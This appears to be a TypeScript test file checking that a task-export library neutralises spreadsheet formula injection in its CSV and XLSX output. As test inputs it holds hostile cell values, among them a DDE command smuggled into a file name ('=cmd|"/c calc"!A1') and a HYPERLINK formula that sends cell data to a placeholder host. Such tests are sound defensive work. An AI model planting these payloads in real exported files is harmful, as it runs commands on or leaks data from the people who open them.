import type {Task} from '@vanban/core'
import ExcelJS from 'exceljs'
import {describe, expect, it} from 'vitest'
import {neutralizeFormula, writeTasks} from '../src/index.ts'
import {parseCsv} from './support.ts'

// OWASP "CSV Injection": a cell starting with = + - @, a tab or a carriage return is run by a spreadsheet.
const cases: ReadonlyArray<readonly [string, string]> = [
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://x.example/?q="&A1,"Xem")', `'=HYPERLINK("http://x.example/?q="&A1,"Xem")`],
  ['+84 24 3825 1234', "'+84 24 3825 1234"],
  ['-2+3', "'-2+3"],
  ['- Bộ Tài chính', "'- Bộ Tài chính"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ["'=1+1", "'=1+1"],
  ['', ''],
  ['Bộ Khoa học và Công nghệ', 'Bộ Khoa học và Công nghệ'],
  ['1+1=2', '1+1=2'],
  ['a=b', 'a=b'],
  [' =1+1', ' =1+1'],
  ['Đ=1', 'Đ=1'],
  ['quý I/2026', 'quý I/2026'],
  ['\n=1+1', '\n=1+1']
]

describe('neutralizeFormula', () => {
  it.each(cases)('%j → %j', (input, expected) => {
    expect(neutralizeFormula(input)).toBe(expected)
  })
})

const hostile = (text: string, index: number): Task => ({
  file: '=cmd|"/c calc"!A1.pdf',
  id: String(index + 1),
  kind: 'task',
  parent: null,
  text,
  owner: '@Bộ Tài chính',
  coordinators: ['+Bộ Tư pháp', 'Bộ Công an'],
  deadlineText: '-quý II/2026',
  due: '2026-06-30',
  recurrence: null,
  result: '=A1',
  page: 1,
  warnings: [{code: 'owner-missing', message: '=no owner'}]
})

const hostileTasks = cases.map(([input]) => input).filter((text) => text !== '').map(hostile)


describe('formula injection by format', () => {
  it('CSV: no cell starts with = + - @, tab or CR', async () => {
    const rows = await parseCsv(((await writeTasks(hostileTasks, {format: 'csv', bom: false})) as string))
    const cells = rows.slice(1).flat()
    expect(cells.length).toBe(hostileTasks.length * 13)
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(rows[1]).toContain("'=1+1")
    expect(rows[1]).toContain("'@Bộ Tài chính")
    expect(rows[1]).toContain("'+Bộ Tư pháp; Bộ Công an")
  })

  it('XLSX: every text cell a string, none a formula, none starting with = + - @, tab or CR', async () => {
    const bytes = (await writeTasks(hostileTasks, {format: 'xlsx'})) as Uint8Array
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer)
    const sheet = workbook.getWorksheet('Nhiệm vụ')!
    let strings = 0
    sheet.eachRow((row, number) => {
      if (number === 1) return
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
        if (typeof cell.value === 'string') {
          strings++
          expect(cell.value).not.toMatch(/^[=+\-@\t\r]/)
        }
      })
    })
    expect(strings).toBeGreaterThan(hostileTasks.length * 8)
    expect(sheet.getRow(2).getCell(5).value).toBe("'=1+1")
  })

  it('JSON and JSON Lines keep the text as written', async () => {
    const json = JSON.parse((await writeTasks(hostileTasks, {format: 'json'})) as string) as {tasks: Task[]}
    expect(json.tasks.map((task) => task.text)).toEqual(hostileTasks.map((task) => task.text))
    const lines = ((await writeTasks(hostileTasks, {format: 'jsonl'})) as string).trim().split('\n').map((line) => JSON.parse(line) as Task)
    expect(lines[0]!.owner).toBe('@Bộ Tài chính')
  })
})
